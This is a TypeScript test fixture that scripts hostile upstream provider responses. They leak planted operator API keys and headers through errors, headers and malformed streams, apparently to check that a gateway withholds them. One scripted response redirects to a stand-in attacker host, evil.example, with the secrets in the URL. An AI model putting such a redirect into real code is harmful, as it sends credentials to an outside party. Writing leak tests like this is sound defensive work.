import { chatStream, refusal } from '../upstream/chat-script.ts'
import type { Script } from '../upstream/scripted-upstream.ts'
import type { Dialect } from './configure.ts'
import { ofOperator, ofProvider } from './planted.ts'

const { providerKey, providerHeader, providerQuery, secondProviderKey } = ofOperator

/** All that a provider has seen of the operator, and what is its own affair. */
const seen: Readonly<Record<Dialect, string>> = {
  m: [providerKey, providerHeader, providerQuery, ofProvider.errorDetail].join(' '),
  n: [secondProviderKey, ofProvider.errorDetail].join(' '),
}

const statuses = [400, 401, 402, 403, 404, 408, 409, 413, 418, 422, 429, 500, 502, 503, 504, 529]
const json = { 'content-type': 'application/json' }

/** A provider that tells all it knows in every part of an error, under every status, and in what is no error at all. */
export const faultsOf = (dialect: Dialect): readonly Script[] => {
  const told = seen[dialect]
  const error = { message: `rejected ${told}`, code: told, type: told, param: told }
  const leaky = { 'set-cookie': ofProvider.responseHeader, 'x-debug': told, server: told }
  const event = `data: ${JSON.stringify({ error: { ...error, type: 'invalid_request_error' } })}\n\n`
  const begun = chatStream([ofProvider.answer]).pieces.slice(0, 2)
  return [
    ...statuses.map(status => ({ ...refusal(status, error), headers: { ...json, ...leaky } })),
    { status: 502, headers: { 'content-type': 'text/html' }, pieces: [`<h1>${told}</h1>`] },
    { status: 307, headers: { location: `https://evil.example/?${encodeURIComponent(told)}` }, pieces: [] },
    { headers: json, pieces: [JSON.stringify({ error })] },
    { headers: json, pieces: [`{"choices": [${told}`] },
    { speaks: false, ending: 'reset' },
    { headers: leaky, pieces: [...begun, event] },
    { headers: leaky, pieces: [[...begun, event].join('')] },
    { headers: leaky, pieces: [...begun, `data: {"choices": ${told}\n\n`] },
    { headers: leaky, pieces: begun },
    { pieces: [event] },
  ]
}
